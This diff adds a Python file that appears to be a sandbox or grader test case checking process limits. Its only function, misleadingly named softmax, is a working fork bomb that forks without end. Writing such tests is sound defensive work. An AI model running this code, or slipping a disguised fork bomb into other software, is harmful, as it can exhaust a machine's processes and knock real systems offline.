@@ -1,0 +1,14 @@
+# tries: forks without end
+# by: limits (processes)
+# verdict: crash timeout memory
+# seconds: 3
+
+import os
+
+
+def softmax(scores, axis=-1):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
